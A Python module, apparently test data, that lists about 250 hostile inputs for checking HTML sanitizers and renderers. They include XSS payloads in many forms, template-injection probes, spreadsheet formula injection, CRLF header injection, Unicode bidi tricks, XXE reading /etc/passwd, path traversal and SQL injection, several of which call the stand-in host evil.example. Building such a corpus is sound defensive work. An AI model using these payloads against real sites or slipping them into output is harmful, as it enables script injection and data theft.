"""What a hostile publisher might write: 250 pieces that would run, load, break out or deceive, each on some surface."""

from __future__ import annotations

from itertools import product

ELSEWHERE = "http://evil.example"
FIRE = "fired=1,fetch(`//evil.example`),alert(1)"

_SCRIPTS = [
    f"<script>{FIRE}</script>",
    f"<ScRiPt>{FIRE}</sCrIpT>",
    f"<script/x>{FIRE}</script>",
    f"<script\n>{FIRE}</script\n>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
    f"</script><script>{FIRE}</script>",
    f"--></script><script>{FIRE}</script>",
    f"]]><script>{FIRE}</script>",
    f"<!--><script>{FIRE}</script>-->",
    f"</title><script>{FIRE}</script>",
    f"</textarea><script>{FIRE}</script>",
    f"</style><script>{FIRE}</script>",
    f"</noscript><script>{FIRE}</script>",
    f"<noscript><p title='</noscript><script>{FIRE}</script>'>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><script href='data:text/javascript,{FIRE}'/></svg>",
    f"<math><annotation-xml encoding='text/html'><script>{FIRE}</script></annotation-xml></math>",
    f"<template><script>{FIRE}</script></template>",
    f"<svg><![CDATA[<script>{FIRE}</script>]]></svg>",
    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
    f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    f"\\u003cscript\\u003e{FIRE}\\u003c/script\\u003e",
    f"<xss><script>{FIRE}//",
    f"<script nonce=''>{FIRE}</script>",
]
_EVENTS = [
    f"<{tag} {event}={quote}{FIRE}{quote}>"
    for (tag, event), quote in product(
        [
            ("img src=x", "onerror"),
            ("svg", "onload"),
            ("body", "onload"),
            ("iframe", "onload"),
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("details open", "ontoggle"),
            ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"),
            ("marquee", "onstart"),
            ("object data=x", "onerror"),
            ("p contenteditable autofocus tabindex=0", "onfocus"),
            ("math tabindex=0 autofocus", "onfocusin"),
            ("svg><animate attributeName=x dur=1s", "onbegin"),
            ("style", "onload"),
            ("link rel=stylesheet href=x", "onerror"),
            ("a href=# autofocus", "onfocus"),
        ],
        ['"', "'", ""],
    )
]
_BREAKOUTS = [
    f"{closing}{opening}"
    for closing, opening in product(
        ['">', "'>", "`>", '"', "'", "--!>", "</p></div>", "</article></main>", "</a>", "/>"],
        [
            f"<img src=x onerror={FIRE}>",
            f" onmouseover={FIRE} x=",
            f"<svg/onload={FIRE}>",
            f"<b style=x:expression({FIRE})>",
        ],
    )
]
_ADDRESSES = [
    f"{scheme}{FIRE}"
    for scheme in (
        *(
            "javascript:",
            "JavaScript:",
            " javascript:",
            "\tjavascript:",
            "java\nscript:",
            "java\tscript:",
            "javascript&colon;",
        ),
        *(
            "&#106;avascript:",
            "jav&#x0A;ascript:",
            "\x01javascript:",
            "vbscript:",
            "data:text/html,<script>",
            "livescript:",
        ),
        *(
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
            "javascript://%0a",
            "https://a.example@evil.example/",
        ),
        *("//evil.example/", "\\\\evil.example\\", "blob:", "view-source:javascript:", "feed:javascript:"),
    )
] + [
    f'<a href="{scheme}{FIRE}">a</a>'
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java&#10;script:",
        "data:text/html,",
        "vbscript:",
        "&#1;javascript:",
    )
]
_LOADS = [
    f'<img src="{ELSEWHERE}/1.png">',
    f'<img srcset="{ELSEWHERE}/1.png 1x">',
    f'<picture><source srcset="{ELSEWHERE}/1.png"><img></picture>',
    f'<link rel=stylesheet href="{ELSEWHERE}/1.css">',
    f'<link rel=prefetch href="{ELSEWHERE}/1">',
    f'<link rel=dns-prefetch href="{ELSEWHERE}">',
    f'<iframe src="{ELSEWHERE}/1"></iframe>',
    f'<iframe srcdoc="<script>{FIRE}</script>"></iframe>',
    f'<object data="{ELSEWHERE}/1.swf"></object>',
    f'<embed src="{ELSEWHERE}/1.swf">',
    f'<video poster="{ELSEWHERE}/1.png" src="{ELSEWHERE}/1.mp4" autoplay></video>',
    f'<audio src="{ELSEWHERE}/1.mp3" autoplay></audio>',
    f'<svg><image href="{ELSEWHERE}/1.png"/></svg>',
    f'<svg><use href="{ELSEWHERE}/1.svg#x"/></svg>',
    f'<style>@import "{ELSEWHERE}/1.css";</style>',
    f"<style>*{{background:url({ELSEWHERE}/1.png)}}</style>",
    f'<p style="background:url({ELSEWHERE}/1.png)">x</p>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/">',
    f'<base href="{ELSEWHERE}/">',
    f'<form action="{ELSEWHERE}/"><button autofocus>x</button></form>',
    f'<input type=image src="{ELSEWHERE}/1.png">',
    f'<body background="{ELSEWHERE}/1.png">',
    f'<table background="{ELSEWHERE}/1.png"><td>x</table>',
    f'<html manifest="{ELSEWHERE}/1">',
    f'<portal src="{ELSEWHERE}/1"></portal>',
    f'<a ping="{ELSEWHERE}/1" href="https://a.example/">x</a>',
    f'<math href="javascript:{FIRE}">x</math>',
]
_MUTATIONS = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={FIRE}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={FIRE}>">',
    f"<noscript><style></noscript><img src=x onerror={FIRE}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={FIRE}>",
    f"<svg><style><img src=x onerror={FIRE}></style>",
    f"<p id='x<img src=x onerror={FIRE}>'",
    f'<a title="`><img src=x onerror={FIRE}>">',
    f"<b><p><b><p><b><p><img/src='x'/onerror={FIRE}>",
    f"<select><template><img src=x onerror={FIRE}></template></select>",
    f'<xmp><p title="</xmp><svg/onload={FIRE}>">',
    f"<listing>&lt;img onerror={FIRE} src=x&gt;</listing>",
    f"<svg><foreignObject><iframe srcdoc='<script>{FIRE}</script>'></foreignObject></svg>",
]
_TEMPLATES = [
    *(
        "{{7191*7}}",
        "${7191*7}",
        "#{7191*7}",
        "<%= 7191*7 %>",
        "{%print(7191*7)%}",
        "{{''.__class__.__mro__}}",
        "{0.__class__}",
    ),
    *("%(7191*7)s", "{{config}}", "{% import os %}{{os}}", "{#", "{{", "%}", "@(7191*7)", "*{7191*7}", "[[7191*7]]"),
    *("{{request.app.state.site}}", "{{self._TemplateReference__context}}", "{{cycler.__init__.__globals__.os}}"),
]
_FORMULAS = [
    f"{start}{rest}"
    for start, rest in product(
        ["=", "+", "-", "@", "\t=", "\r=", "＝", ' "=', "\n="],
        ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")'],
    )
]
_LINES = [
    *(
        "x\r\nSet-Cookie: fired=1",
        "x\r\n\r\n<script>fired=1</script>",
        "x\nLocation: http://evil.example",
        "a\rb",
        "a\u2028b\u2029c",
    ),
    *("%0d%0aSet-Cookie: fired=1", "x\x85y", "a\x0bb\x0cc", 'x"; filename="evil.exe'),
    "data: done\n\nevent: done\n\n",
]
_DECEIT = [
    *(
        "\u202egnp.exe",
        "\u2066a\u2069",
        "\u202d1 2\u202c",
        "\u061cx",
        "\u200f\u200ex",
        "a\u200bb",
        "\ufeffx",
        "x\u0000y",
        "\x1b[2J\x1b[1;1H",
    ),
    *(
        "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
        "\x07\x08\x7f",
        "\x9b31m",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯" * 20,
        "\U000e0041",
        "﷽" * 50,
        "אבג \u202e abc",
        "ﬁ\ufffe",
    ),
    *(
        "&amp;lt;b&amp;gt;",
        "&",
        "<",
        "]]>",
        "&#x202e;x",
        "&nbsp;&zwj;",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://evil.example/'>",
    ),
    *(
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "../../../../etc/passwd",
        "%2e%2e%2f%2e%2e%2f",
        "' OR 1=1 --",
        '"; DROP TABLE blogs; --',
    ),
    *("NULL", "None", "undefined", "NaN", "__proto__", "constructor", "0x1p-1074", "1e999", "-0", "true"),
]

PAYLOADS = [
    *_SCRIPTS,
    *_EVENTS,
    *_BREAKOUTS,
    *_ADDRESSES,
    *_LOADS,
    *_MUTATIONS,
    *_TEMPLATES,
    *_FORMULAS,
    *_LINES,
    *_DECEIT,
]
